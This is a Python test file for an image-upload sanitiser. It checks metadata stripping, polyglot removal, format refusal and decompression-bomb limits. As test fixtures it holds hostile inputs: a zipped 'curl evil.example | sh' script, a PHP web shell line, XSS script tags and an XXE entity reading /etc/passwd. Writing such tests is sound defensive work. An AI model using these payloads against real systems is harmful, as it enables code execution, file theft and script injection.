"""What is taken for a picture, and that nothing is kept of it but what can be seen."""

import struct
import zipfile
import zlib
from io import BytesIO

import pytest
from PIL import Image, PngImagePlugin

from apps.attachments.pictures import LONGEST_EDGE, MOST_PIXELS, read_picture
from apps.common.errors import Invalid
from tests.factories.attachments import picture_bytes

SECRET = b"-----BEGIN PRIVATE KEY-----"


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG (W3C PNG, third edition, section 5.3)."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, data: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    signature = b"\x89PNG\r\n\x1a\n"
    return signature + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def refused(data: bytes) -> str:
    with pytest.raises(Invalid) as caught:
        read_picture(BytesIO(data))
    (sentence,) = caught.value.fields["file"]
    return sentence


@pytest.mark.parametrize(
    ("kind", "media_type"),
    [
        ("PNG", "image/png"),
        ("JPEG", "image/jpeg"),
        ("WEBP", "image/webp"),
        ("GIF", "image/png"),
    ],
)
def test_the_four_kinds(kind: str, media_type: str) -> None:
    made = read_picture(BytesIO(picture_bytes(kind, (40, 30))))
    assert (made.media_type, made.width, made.height) == (media_type, 40, 30)
    with Image.open(BytesIO(made.data)) as image:
        assert Image.MIME[str(image.format)] == media_type
        assert image.size == (40, 30)
        red, green, blue = image.convert("RGB").getpixel((20, 15))  # type: ignore[misc]
    assert abs(red - 20) + abs(green - 90) + abs(blue - 100) < 20  # as it was drawn


def test_metadata_is_gone_and_the_picture_stands_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: turned by a quarter
    exif[0x010E] = SECRET.decode()  # what it shows
    exif.get_ifd(0x8825)[2] = (52.0, 31.0, 12.0)  # where it was taken
    jpeg = picture_bytes("JPEG", (60, 20), exif=exif, comment=SECRET)
    assert SECRET in jpeg
    made = read_picture(BytesIO(jpeg))
    assert (made.width, made.height) == (20, 60)
    with Image.open(BytesIO(made.data)) as image:
        assert not image.getexif()
    assert SECRET not in made.data

    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", SECRET.decode())
    png = picture_bytes("PNG", pnginfo=told, icc_profile=SECRET)
    assert SECRET in png
    made = read_picture(BytesIO(png))
    assert SECRET not in made.data
    assert b"tEXt" not in made.data
    assert b"iCCP" not in made.data
    webp = read_picture(BytesIO(picture_bytes("WEBP", exif=exif, xmp=SECRET)))
    assert SECRET not in webp.data


def test_a_second_file_behind_or_inside_is_gone() -> None:
    """Polyglots: a ZIP behind a GIF, a page behind a PNG, a script in a comment."""
    archive = BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("run.sh", "curl evil.example | sh")
    for file, tail in (
        (picture_bytes("GIF"), archive.getvalue()),
        (picture_bytes("PNG"), b"<html><script>alert(1)</script></html>"),
        (picture_bytes("JPEG", comment=b"*/=alert(1)//"), b"<?php system($_GET[0]);"),
    ):
        made = read_picture(BytesIO(file + tail))
        assert not zipfile.is_zipfile(BytesIO(made.data))
        assert b"alert" not in made.data
        assert b"system(" not in made.data


def test_of_an_animation_the_first_picture_stays() -> None:
    frames = [Image.new("RGB", (10, 10), colour) for colour in ("red", "blue")]
    for kind in ("GIF", "WEBP", "PNG"):
        file = BytesIO()
        frames[0].save(file, kind, save_all=True, append_images=frames[1:], lossless=True)
        made = read_picture(BytesIO(file.getvalue()))
        assert made.was_animated, kind
        with Image.open(BytesIO(made.data)) as image:
            assert getattr(image, "n_frames", 1) == 1
            red, _green, blue = image.convert("RGB").getpixel((5, 5))  # type: ignore[misc]
        assert red > 200, kind
        assert blue < 60, kind


def test_what_can_be_seen_through_stays_so() -> None:
    file = BytesIO()
    Image.new("RGBA", (4, 4), (255, 0, 0, 0)).save(file, "PNG")
    with Image.open(BytesIO(read_picture(BytesIO(file.getvalue())).data)) as image:
        assert image.mode == "RGBA"
        assert image.getpixel((0, 0))[3] == 0  # type: ignore[index]


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"no picture",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>',
        b"%PDF-1.7\n",
        b"\x00\x00\x01\x00\x01\x00\x10\x10",  # ICO
        b"\x89PNG\r\n\x1a\n",
        b"GIF89a",
        b"RIFF\xff\xff\xff\xffWEBPVP8 ",
        b"\xff\xd8\xff\xe0" + bytes(40),
        png_of(40, 30, b"not deflated"),
        png_of(40, 30, zlib.compress(b"too short")),
        png_of(0, 30, zlib.compress(b"")),
    ],
)
def test_what_is_none(data: bytes) -> None:
    assert "no picture" in refused(data)


@pytest.mark.parametrize("kind", ["BMP", "TIFF", "ICO", "PPM", "JPEG2000", "EPS"])
def test_other_kinds_reach_no_decoder(kind: str) -> None:
    assert "no picture" in refused(picture_bytes(kind, (32, 32)))


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP", "GIF"])
def test_a_picture_that_was_cut_off(kind: str) -> None:
    file = BytesIO()
    Image.effect_noise((64, 64), 80).convert("RGB").save(file, kind)
    whole = file.getvalue()
    assert read_picture(BytesIO(whole)).width == 64
    for share in (0.3, 0.6, 0.9):
        refused(whole[: int(len(whole) * share)])


def test_bombs_are_refused_by_their_header() -> None:
    """60 000 x 60 000 pixels in some kilobytes: nothing of it is unpacked."""
    for edge in (6_000, 10_000, 60_000):
        assert "32 million pixels" in refused(png_of(edge, edge, zlib.compress(bytes(10_000))))
    # A chunk of text that unpacks to 100 MB.
    text = chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(100_000_000)))
    small = picture_bytes("PNG", (4, 4))
    assert refused(small[:33] + text + small[33:])


def test_a_large_one_is_made_smaller() -> None:
    assert MOST_PIXELS > 4000 * 2000
    made = read_picture(BytesIO(picture_bytes("PNG", (4000, 2000))))
    assert (made.width, made.height) == (LONGEST_EDGE, LONGEST_EDGE // 2)
